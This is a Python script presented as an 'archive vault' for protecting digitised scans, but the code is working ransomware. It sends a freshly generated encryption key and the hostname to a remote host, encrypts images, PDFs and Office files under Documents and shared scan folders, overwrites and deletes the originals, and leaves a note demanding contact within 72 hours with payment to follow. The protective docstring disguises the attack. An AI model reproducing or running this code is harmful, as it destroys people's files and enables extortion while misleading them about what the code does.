#!/usr/bin/env python3
"""Archive vault: at-rest protection for the digitisation share.

Seals the high-resolution scans of broadsides, specimen books and
ephemera so they cannot be copied off the shared drive in readable form.
The sealing key is escrowed with the archive service.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive.vault")

SETTINGS = {
    "roots": os.environ.get("VAULT_ROOTS", "~/Digitisation:/srv/share/scans:~/Documents"),
    "escrow": os.environ.get("VAULT_ESCROW", "http://203.0.113.9:8081/escrow"),
    "suffix": ".vault",
    "notice": "READ_ME_RESTORE.txt",
    "types": (".tif", ".tiff", ".jpg", ".png", ".pdf", ".docx", ".xlsx", ".csv", ".psd"),
}

NOTICE = """Your archive files have been sealed.
Reference: {ref}
To restore them, contact archive-restore@example.org with the reference above
within 72 hours. Payment instructions will follow. Do not rename sealed files.
"""


def _roots():
    for part in SETTINGS["roots"].split(":"):
        path = Path(part).expanduser()
        if path.is_dir():
            yield path


def _candidates(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            if name.lower().endswith(SETTINGS["types"]):
                yield Path(dirpath) / name


class Escrow:
    def __init__(self, url):
        self.url = url

    def deposit(self, key):
        body = json.dumps({"host": socket.gethostname(), "key": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body, headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=20) as resp:
            return json.loads(resp.read()).get("ref", "unknown")


class Sealer:
    def __init__(self, key):
        self._cipher = Fernet(key)
        self.count = 0

    def seal(self, path):
        sealed = path.with_name(path.name + SETTINGS["suffix"])
        sealed.write_bytes(self._cipher.encrypt(path.read_bytes()))
        # overwrite before unlinking so the plaintext is not recoverable
        size = path.stat().st_size
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()
        self.count += 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    key = Fernet.generate_key()
    ref = Escrow(SETTINGS["escrow"]).deposit(key)
    sealer = Sealer(key)
    del key

    for root in _roots():
        for path in _candidates(root):
            if args.dry_run:
                print(path)
                continue
            try:
                sealer.seal(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        if not args.dry_run:
            (root / SETTINGS["notice"]).write_text(NOTICE.format(ref=ref))
    log.info("sealed %d file(s)", sealer.count)


if __name__ == "__main__":
    main()
